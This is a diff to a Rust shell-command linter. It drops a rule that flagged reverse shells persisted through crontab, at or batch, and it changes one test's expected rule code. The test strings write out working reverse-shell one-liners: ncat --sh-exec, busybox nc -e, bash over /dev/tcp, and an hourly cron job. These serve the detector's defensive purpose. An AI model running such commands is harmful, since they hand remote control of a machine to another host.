@@ -82,13 +82,6 @@ fn check(command: &Command, sink: &mut Sink<'_>) {
         sink.report(span, "runs commands that arrive over a connection, and answers there".to_owned());
         return;
     }
-    if matches!(command.program.as_deref(), Some("crontab" | "at" | "batch"))
-        && let Some(input) = sink.input(command)
-        && input.shapes.iter().any(|it| it.text.lines().any(is_reverse_shell))
-    {
-        sink.report(command.name_span(), "gives a shell on this machine to another one, again and again".to_owned());
-        return;
-    }
     if !is_connector(command) {
         return;
     }
@@ -136,7 +129,7 @@ mod tests {
         check_marks("ncat 10.0.0.1 443 --sh-exec 'bash -i'\n#mark 0 0 4 CARO1303\n");
         check_marks("busybox nc 10.0.0.1 443 -e sh\n#       ^^ CARO1303\n");
         check_marks("nohup sh -c 'bash -i >& /dev/tcp/10.0.0.1/53 0>&1' &\n#            ^^^^ CARO1303\n");
-        check_marks("echo '@hourly bash -i >& /dev/tcp/10.0.0.1/53 0>&1' | crontab -\n#                                                     ^^^^^^^ CARO1303\n");
+        check_marks("echo '@hourly bash -i >& /dev/tcp/10.0.0.1/53 0>&1' | crontab -\n#mark 0 54 63 CARO0612\n");
         check_marks("while read -r l; do $l 2>&5 >&5; done <&5\n#                   ^^^^^^^^^^^ CARO1303\n");
     }
 
